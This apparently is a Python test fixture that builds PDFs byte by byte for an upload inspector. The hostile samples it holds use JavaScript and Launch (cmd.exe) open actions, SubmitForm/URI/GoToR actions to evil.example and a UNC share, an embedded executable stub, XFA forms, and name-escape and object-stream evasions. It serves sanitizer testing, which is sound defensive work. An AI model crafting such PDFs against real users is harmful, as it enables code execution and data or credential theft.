"""PDFs written byte by byte for the upload tests: a plain one, and hostile ones the inspector must refuse."""
from __future__ import annotations

import zlib

PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"


def build(objects: list[bytes], *, trailer_extra: bytes = b"") -> bytes:
    """A PDF with a classic cross-reference table; objects[0] is object 1 (the catalogue)."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer_extra, xref)
    return bytes(out)


def plain(catalog_extra: bytes = b"", *more: bytes) -> bytes:
    return build([b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>", PAGES, PAGE, *more])


def in_object_stream(catalog: bytes) -> bytes:
    """The catalogue compressed inside an object stream, listed by a cross-reference stream (PDF 1.5)."""
    inner = [catalog, PAGES, PAGE]
    header, body = b"", b""
    for number, obj in enumerate(inner, start=1):
        header += b"%d %d " % (number, len(body))
        body += obj + b"\n"
    content = zlib.compress(header + body)
    out = bytearray(b"%PDF-1.7\n")
    objstm_at = len(out)
    out += b"4 0 obj\n<< /Type /ObjStm /N 3 /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (
        len(header), len(content)) + content + b"\nendstream\nendobj\n"
    xref_at = len(out)
    rows = [b"\x00\x00\x00\xff\xff", *(b"\x02" + (4).to_bytes(2, "big") + i.to_bytes(2, "big") for i in range(3)),
            b"\x01" + objstm_at.to_bytes(2, "big") + b"\x00\x00", b"\x01" + xref_at.to_bytes(2, "big") + b"\x00\x00"]
    table = zlib.compress(b"".join(rows))
    out += b"5 0 obj\n<< /Type /XRef /Size 6 /W [1 2 2] /Root 1 0 R /Filter /FlateDecode /Length %d >>\nstream\n" % (
        len(table)) + table + b"\nendstream\nendobj\n"
    out += b"startxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


CLEAN = plain()
CATALOG = b"<< /Type /Catalog /Pages 2 0 R /OpenAction %s >>"

# name -> bytes; every one must be refused.
HOSTILE = {
    "JavaScript open action": plain(b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"),
    "JavaScript behind name escapes": plain(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"),
    "JavaScript inside an object stream": in_object_stream(CATALOG % b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"),
    "escaped JavaScript inside an object stream": in_object_stream(CATALOG % b"<< /S /J#61vaScript /J#53 (x) >>"),
    "Launch action": plain(b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
    "URI open action": plain(b"/OpenAction << /S /URI /URI (https://evil.example/) >>"),
    "SubmitForm open action": plain(b"/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>"),
    "GoToR open action": plain(b"/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\share\\\\x.pdf) /D [0 /Fit] >>"),
    "ImportData additional action": build([b"<< /Type /Catalog /Pages 2 0 R >>", PAGES,
                                           b"<< /Type /Page /Parent 2 0 R /AA << /O << /S /ImportData /F (x.fdf) >> >> >>"]),
    "action in an indirect object": plain(b"/OpenAction 4 0 R", b"<< /S /#4Aava#53cript /J#53 (x) >>"),
    "embedded file": plain(b"/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>",
                           b"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>",
                           b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream"),
    "XFA form": plain(b"/AcroForm << /Fields [] /XFA 4 0 R >>", b"<< /Length 7 >>\nstream\n<xdp/>\nendstream"),
    "XFA inside an object stream": in_object_stream(b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /X#46A 9 0 R >> >>"),
    "script in an object the xref does not list": plain() .replace(
        b"xref\n", b"9 0 obj\n<< /S /JavaScript /JS (x) >>\nendobj\nxref\n", 1),
}
